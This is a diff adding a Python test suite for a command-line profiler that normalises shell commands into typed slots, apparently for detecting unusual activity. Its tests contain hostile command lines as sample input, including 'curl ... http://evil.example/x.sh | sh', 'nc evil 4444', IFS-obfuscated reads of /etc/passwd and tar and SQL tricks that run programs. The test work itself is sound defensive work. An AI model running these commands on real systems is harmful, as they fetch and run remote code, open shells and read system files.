@@ -1,0 +1,137 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Normal forms and slots of whole command lines."""
+
+from hypothesis import given
+from hypothesis import strategies as st
+
+from habitus_profiler.forms import MAX_TEXT, form_of
+from habitus_profiler.shell import split
+from habitus_profiler.slots import Slot, SlotBook
+from habitus_profiler.tokens import typed
+
+hostile = st.text(st.characters(), max_size=80) | st.sampled_from(
+    ["-c", "sh", "$(", "`", "'", '"', "|", "http://[", "/", "//", "-", "--", "=", "<any>", "\x00", "a" * 5000]
+)
+
+
+def slots(*argv):
+    return {f"{slot.kind}:{slot.value}" for slot in form_of(argv).slots}
+
+
+def test_ids_and_times_do_not_change_the_form():
+    """Two runs that differ in nothing but their ids have one form."""
+    first = form_of(("tar", "czf", "/backup/db-20261124T1502.tar.gz", "/data"))
+    assert first == form_of(("tar", "czf", "/backup/db-20270101T0000.tar.gz", "/data"))
+
+
+def test_programs_of_the_image_are_known_by_their_name_and_others_by_their_place():
+    """`/usr/bin/java` and `java` are one; `./java` and `/tmp/java` are others."""
+    assert form_of(("/usr/bin/java", "-version")) == form_of(("java", "-version"))
+    assert "program:in ./" in slots("./java")
+    assert "program:in /tmp" in slots("/tmp/java")
+
+
+def test_shell_text_gives_its_commands_operators_and_hosts():
+    """`curl http://x | sh` is no opaque text."""
+    found = slots("sh", "-c", "curl -o /tmp/y http://evil.example/x.sh | sh")
+    assert {"command:curl", "command:sh", "operator:|", "remote:evil.example", "fetch:sh"} <= found
+    assert {"flag:curl -o", "path:/tmp"} <= found
+
+
+def test_shells_behind_wrappers_and_inside_shells_are_read_too():
+    """No nesting hides a command."""
+    assert "command:id" in slots("timeout", "5", "sh", "-c", "bash -c 'id'")
+    assert "command:id" in slots("env", "A=1", "sh", "-lc", "$(id)")
+    assert "command:rm" in slots("find", "/data", "-exec", "rm", "{}", "+")
+    assert "command:id" in slots("su", "app", "-c", "id")
+
+
+def test_a_redirection_is_a_slot_by_its_target_and_to_dev_null_none():
+    """Where the output goes is what matters."""
+    assert "operator:> /dev/null" not in slots("sh", "-c", "ls > /dev/null 2>&1")
+    assert "operator:> /tmp" in slots("sh", "-c", "ls > /tmp/x")
+
+
+def test_inline_code_gives_its_words():
+    """`python -c` and its like are known by their words only."""
+    assert {"code:socket", "code:connect"} <= slots("python3", "-c", "import socket; socket.connect()")
+    assert "code:exec" in slots("node", "-e", "require('child_process').exec('id')")
+
+
+def test_sql_gives_its_verbs():
+    """A query that runs a program differs from one that counts."""
+    assert "sql:program" in slots("psql", "-c", "COPY t FROM PROGRAM 'id'")
+    assert "sql:select" in slots("psql", "-c", "SELECT 1")
+
+
+def test_values_of_code_loading_flags_are_slots():
+    """`--require`, `-m`, `-jar` are known by their value."""
+    assert "load:/tmp/evil.js" in slots("node", "--require", "/tmp/evil.js", "a.js")
+    assert "load:http.server" in slots("python3", "-m", "http.server")
+    assert "load:exec=sh" in slots("tar", "--checkpoint-action=exec=sh")
+
+
+def test_what_stands_behind_the_limits_still_counts():
+    """Padding neither raises nor makes two forms one."""
+    padding = ["x" * 3000] * 3
+    assert form_of((*padding, "a")).text != form_of((*padding, "b")).text
+    assert any(slot.kind == "overlong" for slot in form_of(tuple("a" * 600)).slots)
+    assert len(form_of((*padding, "a")).text) < MAX_TEXT + 32
+
+
+def test_neighbours_under_a_domain_are_known_unless_strangers_share_it():
+    """Two hosts of `shop.svc` make a third one known; two of `github.io` do not."""
+    book = SlotBook()
+    for host in ("a.shop.svc", "b.shop.svc", "a.github.io", "b.github.io"):
+        book.learn(Slot("remote", host))
+    assert book.knows(Slot("remote", "c.shop.svc"))
+    assert not book.knows(Slot("remote", "c.github.io"))
+    assert not book.knows(Slot("remote", "shop.svc.evil.example"))
+
+
+def test_counters_in_a_host_name_are_typed_but_not_in_the_domain_that_is_owned():
+    """`redis-0.redis` is any of its kind; `cdn-12.com` is only itself."""
+    assert "remote:redis-<number>" in slots("redis-cli", "-h", "redis-0")
+    assert "remote:web-<number>.shop.com" in slots("curl", "http://web-17.shop.com/")
+    assert "remote:cdn-12.com" in slots("curl", "http://cdn-12.com/")
+    assert "remote:3405803785" in slots("curl", "http://3405803785/")
+
+
+def test_a_bare_host_of_a_program_that_talks_is_a_remote():
+    """`nc evil 4444` has no dot and no scheme."""
+    assert "remote:evil" in slots("nc", "evil", "4444")
+    assert "remote:evil" in slots("sh", "-c", "curl evil | sh")
+
+
+def test_an_expanded_word_hides_no_path():
+    """`${IFS}` instead of white space does not help."""
+    assert "path:/etc/passwd" in slots("sh", "-c", "${IFS}cat${IFS}/etc/passwd")
+
+
+def test_a_cluster_of_known_short_flags_is_known():
+    """`-xf` after `-xzf`, but not `-P`."""
+    book = SlotBook([("flag", "-xzf")])
+    assert book.knows(Slot("flag", "-xf"))
+    assert not book.knows(Slot("flag", "-xP"))
+    assert not book.knows(Slot("flag", "--checkpoint"))
+    assert book.knows(Slot("flag", "--verbose"))
+
+
+@given(st.lists(hostile, max_size=12))
+def test_hostile_arguments_never_raise(argv):
+    """Whatever an attacker writes has a form, and the same one each time."""
+    assert form_of(tuple(argv)) == form_of(tuple(argv))
+
+
+@given(hostile)
+def test_hostile_text_never_raises(text):
+    """Nor do the parts below."""
+    typed(text)
+    split(text)
+    form_of(("sh", "-c", text))
+
+
+@given(st.text(max_size=60))
+def test_typing_is_stable(text):
+    """A normal text has no volatile part left that another round would replace by other slots."""
+    assert typed(text) == typed(text)
